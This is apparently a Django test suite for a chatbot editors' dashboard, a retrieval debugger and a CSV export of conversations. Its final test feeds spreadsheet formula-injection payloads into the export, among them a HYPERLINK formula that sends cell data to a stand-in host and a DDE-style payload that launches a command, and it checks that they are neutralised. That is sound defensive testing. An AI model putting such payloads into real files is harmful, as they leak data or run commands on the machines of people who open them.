"""The editors' dashboard and retrieval debugger."""

from datetime import timedelta

import pytest
from django.contrib.auth.models import User
from django.urls import reverse
from django.utils import timezone

from backend.chat.models import Conversation, Feedback, Message
from backend.insights.gaps import group_questions
from backend.insights.selectors import dashboard, percentile

pytestmark = pytest.mark.django_db


def exchange(question: str, outcome: str, *, total_ms=900, first_ms=120, sources=(), days_ago=0):
    conversation = Conversation.objects.create(language="de")
    Message.objects.create(conversation=conversation, role=Message.Role.USER, text=question)
    answer = Message.objects.create(
        conversation=conversation,
        role=Message.Role.ASSISTANT,
        text="…",
        outcome=outcome,
        timings={"total_ms": total_ms, "first_token_ms": first_ms},
        sources=list(sources),
    )
    if days_ago:
        Message.objects.filter(pk=answer.pk).update(
            created_at=timezone.now() - timedelta(days=days_ago)
        )
    return answer


@pytest.mark.parametrize(
    ("values", "share", "expected"),
    [([], 0.5, None), ([5], 0.95, 5), ([1, 2, 3, 4], 0.5, 3), (list(range(1, 101)), 0.95, 95)],
)
def test_percentile(values, share, expected):
    assert percentile(values, share) == expected


def test_similar_unanswered_questions_are_grouped():
    gaps = group_questions(
        [
            "Wann ist das Kinderturnen?",
            "Wann findet das Kinderturnen statt?",
            "Kinderturnen wann",
            "Gibt es einen Parkplatz?",
        ]
    )
    assert gaps[0].count == 3 and "Kinderturnen" in gaps[0].question
    assert gaps[1].count == 1 and "Parkplatz" in gaps[1].question


def test_dashboard_numbers():
    page = {"n": 1, "url": "https://verein.example/training/", "title": "Training"}
    exchange("Wann ist Training?", "answered", total_ms=800, sources=[page])
    exchange("Wann ist Training heute?", "answered", total_ms=1200, sources=[page])
    exchange("Gibt es einen Parkplatz?", "unanswered")
    exchange("Parkplatz am Verein?", "unanswered")
    exchange("alt", "answered", days_ago=60)  # outside the window
    first, second = Message.objects.filter(outcome="answered")[:2]
    Feedback.objects.create(message=first, rating=Feedback.Rating.UP)
    Feedback.objects.create(message=second, rating=Feedback.Rating.DOWN)

    data = dashboard(30)
    assert (data["questions"], data["answered"], data["unanswered"]) == (4, 2, 2)
    assert data["feedback_positive_pct"] == 50
    assert data["latency"]["total_p95"] == 1200
    assert data["most_cited"][0] == {"url": page["url"], "title": "Training", "count": 2}
    assert data["gaps"][0].count == 2 and "Parkplatz" in data["gaps"][0].question
    assert sum(day["answered"] for day in data["per_day"]) == 2


def test_answers_without_the_language_model_are_counted(editor_client):
    exchange("Wann ist Training?", "answered")
    exchange("Wann ist Training heute?", "answered_fallback")
    exchange("Was kostet es?", "answered_fallback")
    data = dashboard(30)
    assert (data["answered"], data["answered_fallback"], data["unanswered"]) == (3, 2, 0)
    assert sum(day["answered"] for day in data["per_day"]) == 3
    page = editor_client.get(reverse("admin:dashboard"), HTTP_ACCEPT_LANGUAGE="en").content
    assert 'data-stat="answered_fallback">2 of them without the language model' in page.decode()
    page = editor_client.get(reverse("admin:dashboard"), HTTP_ACCEPT_LANGUAGE="de").content
    assert 'data-stat="answered_fallback">davon 2 ohne Sprachmodell' in page.decode()


def test_dashboard_page_for_editors_only(editor_client, client):
    exchange("Gibt es einen Parkplatz?", "unanswered")
    page = editor_client.get(reverse("admin:dashboard")).content.decode()
    assert "<svg" in page and "Parkplatz" in page
    assert reverse("admin:dashboard") in editor_client.get(reverse("admin:index")).content.decode()

    nobody = User.objects.create_user("nobody", password="pw", is_staff=True)
    client.force_login(nobody)
    assert client.get(reverse("admin:dashboard")).status_code == 403
    assert client.get(reverse("admin:retrieval")).status_code == 403


def test_retrieval_debugger_uses_the_chat_retrieval(editor_client, monkeypatch):
    from rag.models import RetrievedChunk

    calls = []

    def fake_retrieve(query, source_ids, top_k):
        calls.append((query, list(source_ids), top_k))
        return [
            RetrievedChunk(
                score=7.5,
                document_id="1",
                source_id="1",
                url="https://verein.example/training/",
                title="Training",
                text="Dienstag 16 Uhr",
                heading_path=("Kinder",),
                chunk_index=0,
                language="de",
            )
        ]

    monkeypatch.setattr("backend.chat.retrieval.retrieve", fake_retrieve)
    response = editor_client.get(reverse("admin:retrieval"), {"question": "Kinderturnen", "k": 5})
    page = response.content.decode()
    assert calls == [("Kinderturnen", [], 5)]
    assert "Dienstag 16 Uhr" in page and "7.5" in page


def test_retrieval_debugger_says_why_a_passage_counts(editor_client, monkeypatch):
    from rag.models import RetrievedChunk

    def passage(text, url):
        return RetrievedChunk(
            score=0.9, document_id=url, source_id="1", url=url, title="", text=text,
            heading_path=(), chunk_index=0, language="de",
        )  # fmt: skip

    monkeypatch.setattr(
        "backend.chat.retrieval.retrieve",
        lambda query, ids, k: [
            passage("Das Kinderturnen ist dienstags um 16 Uhr.", "https://verein.example/a/"),
            passage("Die Geschäftsstelle ist montags geöffnet.", "https://verein.example/b/"),
        ],
    )
    page = editor_client.get(
        reverse("admin:retrieval"), {"question": "Wann ist Kinderturnen?", "k": 5},
        HTTP_ACCEPT_LANGUAGE="de",
    ).content.decode()  # fmt: skip
    # the German admin explains the verdict in German, with the words found and missing
    assert "relevant: Sicherheit" in page and "1 von 1 Wörtern der Frage gefunden" in page
    assert "nicht relevant: Sicherheit" in page and "fehlt: kinderturnen" in page


def test_conversation_filters_and_csv_export(editor_client):
    answered = exchange("Wann ist Training?", "answered")
    unanswered = exchange("Gibt es einen Parkplatz?", "unanswered")
    Feedback.objects.create(message=answered, rating=Feedback.Rating.DOWN, comment="falsch")
    url = reverse("admin:chat_conversation_changelist")

    page = editor_client.get(url, {"outcome": "unanswered"}).content.decode()
    assert "Parkplatz" in page and "Wann ist Training" not in page
    page = editor_client.get(url, {"outcome": "thumbs_down"}).content.decode()
    assert "Wann ist Training" in page and "Parkplatz" not in page

    response = editor_client.post(
        url,
        {
            "action": "export_csv",
            "_selected_action": [answered.conversation_id, unanswered.conversation_id],
        },
    )
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode()
    lines = body.strip().splitlines()
    assert lines[0].startswith("conversation,started,language,message,role")
    assert len(lines) == 5  # header + two questions + two answers
    assert "Parkplatz" in body and ",unanswered," in body


@pytest.mark.parametrize(
    "question",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"Klick")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_export_shows_formulas_as_text(editor_client, question):
    import csv
    import io

    answered = exchange(question, "answered")
    response = editor_client.post(
        reverse("admin:chat_conversation_changelist"),
        {"action": "export_csv", "_selected_action": [answered.conversation_id]},
    )
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    texts = [row[6] for row in rows[1:]]
    assert texts[0] == "'" + question  # the visitor's question, as text
    assert texts[1] == "…"  # what needs no quoting is left as it is
